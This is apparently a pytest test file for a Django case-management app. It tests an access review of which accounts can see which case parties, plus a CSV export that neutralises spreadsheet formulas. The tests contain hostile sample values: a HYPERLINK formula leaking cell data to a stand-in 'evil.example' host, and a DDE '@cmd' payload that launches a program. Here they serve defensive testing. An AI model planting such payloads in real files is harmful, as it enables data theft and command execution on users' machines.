"""BEY-5: a PA or SA sees which account of the organization can see which case party, and why
(administrator; SA given the case by profile or number, by whom; OU assigned, by whom, when;
default OU while no OU is assigned), narrowed to one account or one case, in pages and the
API, and exports it as CSV that a spreadsheet cannot run as formulas."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from cases.selectors.access_review import AccessReason, case_access_all_rows, case_access_review
from cases.services.assignment import (
    case_assignment_create,
    case_number_assignment_create,
    case_profile_assignment_create,
)
from core.errors import NotFound, NotPermitted
from core.spreadsheets import spreadsheet_safe
from tests.factories import (
    ApiOnlyAccountFactory,
    CaseLinkFactory,
    UserFactory,
    api_as,
    organization_with_cases,
)

pytestmark = pytest.mark.django_db

API = "/api/v1/organization/case-access/"
HOSTILE = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'


@pytest.fixture
def org():
    world = organization_with_cases(name="Chan & Partners")
    case_profile_assignment_create(
        actor=world.pa, administrator_id=world.sa.pk, proceeding_type="DCPI"
    )
    case_number_assignment_create(
        actor=world.pa, administrator_id=world.sa_kowloon.pk, case_number=world.case.number
    )
    case_assignment_create(actor=world.sa, link_id=world.link.pk, organization_user_id=world.ou2.pk)
    world.unassigned = CaseLinkFactory(organization=world.organization)
    return world


def rows_of(review) -> set:
    return {
        (row.holder.login_name, row.link.case.number if row.link else None, row.reason, row.by)
        for row in review["administrators"] + review["rows"]
    }


def test_bey_5_each_holder_case_and_why(org):
    review = case_access_review(actor=org.pa)
    got = rows_of(review)
    case, other = org.case.number, org.unassigned.case.number
    expected_links = {
        (org.sa.login_name, case, AccessReason.GIVEN_BY_PROFILE, org.pa),
        (org.sa.login_name, other, AccessReason.GIVEN_BY_PROFILE, org.pa),
        (org.sa_kowloon.login_name, case, AccessReason.GIVEN_BY_NUMBER, org.pa),
        (org.ou2.login_name, case, AccessReason.ASSIGNED, org.sa),
        # The second party is assigned to no OU: the default OU receives its messages.
        (org.ou.login_name, other, AccessReason.DEFAULT_OU, None),
    }
    administrators = {
        (account.login_name, None, AccessReason.ADMINISTRATOR, None)
        for account in (org.pa, org.sa, org.sa_same, org.sa_all, org.sa_kowloon)
    }
    assert got == expected_links | administrators
    assigned = next(r for r in review["rows"] if r.reason == AccessReason.ASSIGNED)
    assert assigned.at is not None and assigned.link.party.name == "CHAN Tai Man"
    profile = next(r for r in review["rows"] if r.reason == AccessReason.GIVEN_BY_PROFILE)
    assert profile.profile == "DCPI"


def test_bey_5_filtered_by_holder_or_case(org):
    by_ou = rows_of(case_access_review(actor=org.sa, holder_id=org.ou.pk))
    assert by_ou == {(org.ou.login_name, org.unassigned.case.number, AccessReason.DEFAULT_OU, None)}
    by_sa = rows_of(case_access_review(actor=org.sa, holder_id=org.sa_kowloon.pk))
    assert by_sa == {
        (org.sa_kowloon.login_name, None, AccessReason.ADMINISTRATOR, None),
        (org.sa_kowloon.login_name, org.case.number, AccessReason.GIVEN_BY_NUMBER, org.pa),
    }
    by_case = case_access_review(actor=org.pa, case_number=org.case.number.lower())
    assert {row.link.case.number for row in by_case["rows"]} == {org.case.number}
    assert {row.reason for row in by_case["rows"]} == {
        AccessReason.GIVEN_BY_PROFILE,
        AccessReason.GIVEN_BY_NUMBER,
        AccessReason.ASSIGNED,
    }


def test_bey_5_role_2_another_organizations_holder_is_not_found(org):
    other = organization_with_cases()
    with pytest.raises(NotFound):
        case_access_review(actor=org.pa, holder_id=other.ou.pk)
    assert api_as(org.pa).get(API, {"holder": other.ou.pk}).status_code == 404
    assert api_as(org.pa).get(API + "export/", {"holder": other.ou.pk}).status_code == 404
    # Nothing of the other organization in the review.
    listed = {row.holder.organization_id for row in case_access_review(actor=org.pa)["rows"]}
    assert listed == {org.organization.pk}


def test_bey_5_only_administrators_review(org, client):
    for actor in (org.ou, UserFactory()):
        with pytest.raises(NotPermitted):
            case_access_review(actor=actor)
        assert api_as(actor).get(API).status_code == 403
        assert api_as(actor).get(API + "export/").status_code == 403
    client.force_login(org.ou)
    assert client.get("/cases/access-review/").status_code == 403
    assert client.get("/cases/access-review/export.csv").status_code == 403


def test_bey_5_api_lists_rows_with_reasons(org):
    body = api_as(org.sa).get(API, {"case_number": org.case.number}).json()
    reasons = {(row["holder"]["login_name"], row["reason"]) for row in body["results"]}
    assert (org.ou2.login_name, "assigned") in reasons
    assert {row["reason"] for row in body["administrators"]} == {"administrator"}
    assigned = next(row for row in body["results"] if row["reason"] == "assigned")
    assert assigned["by"] == org.sa.login_name and assigned["party_type"] == "PLAINTIFF"


def _csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    "value",
    [HOSTILE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_bey_5_csv_cells_that_start_a_formula_are_inert(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("Chan Tai Man") == "Chan Tai Man"
    assert spreadsheet_safe(None) == ""


def test_bey_5_csv_export_of_a_hostile_ou_name_comes_out_inert(org, client):
    hostile = ApiOnlyAccountFactory(
        organization=org.organization, branch=org.central, surname=HOSTILE, given_name=""
    )
    case_assignment_create(actor=org.pa, link_id=org.unassigned.pk, organization_user_id=hostile.pk)
    org.unassigned.party.name = "@cmd|' /C calc'!A0"
    org.unassigned.party.save()
    response = api_as(org.pa).get(API + "export/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(b"".join(response.streaming_content))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["Login name", "Name"]
    hostile_rows = [row for row in body if row[0] == hostile.login_name]
    assert hostile_rows and hostile_rows[0][1] == "'" + HOSTILE
    assert hostile_rows[0][6].startswith("'@cmd")
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The page's export is the same file, in the page's language.
    client.force_login(org.pa)
    page = client.get("/zh-hant/cases/access-review/export.csv")
    zh_rows = _csv(b"".join(page.streaming_content))
    assert zh_rows[0][0] == "登入名稱"
    assert len(zh_rows) == len(rows)


def test_bey_5_csv_export_holds_every_row_across_chunks(org):
    for _n in range(7):
        CaseLinkFactory(organization=org.organization)
    everything = list(case_access_all_rows(actor=org.pa, chunk=3))
    one_go = case_access_review(actor=org.pa, page_size=100)
    assert len(everything) == len(one_go["administrators"]) + len(one_go["rows"])


def test_bey_5_review_page_in_both_languages(org, client):
    client.force_login(org.sa)
    page = client.get("/cases/access-review/", {"holder": org.ou2.pk}).content.decode()
    assert "Who can see which case" in page and org.case.number in page
    assert "Assigned to this OU" in page
    page = client.get("/zh-hant/cases/access-review/").content.decode()
    assert org.ou2.login_name in page and "預設機構用戶" in page
    # Login name, role and branch in a row, with the Chinese comma.
    assert f"{org.ou2.login_name}，機構用戶，CENTRAL" in page
    assert f"{org.ou2.login_name}, " not in page
    other = organization_with_cases()
    assert client.get("/cases/access-review/", {"holder": other.ou.pk}).status_code == 404


def test_bey_5_review_takes_the_same_queries_with_few_and_many_parties(org):
    def count():
        with CaptureQueriesContext(connection) as captured:
            case_access_review(actor=org.pa)
        return len(captured)

    few = count()
    for _n in range(15):
        link = CaseLinkFactory(organization=org.organization)
        case_assignment_create(actor=org.pa, link_id=link.pk, organization_user_id=org.ou2.pk)
    assert count() == few
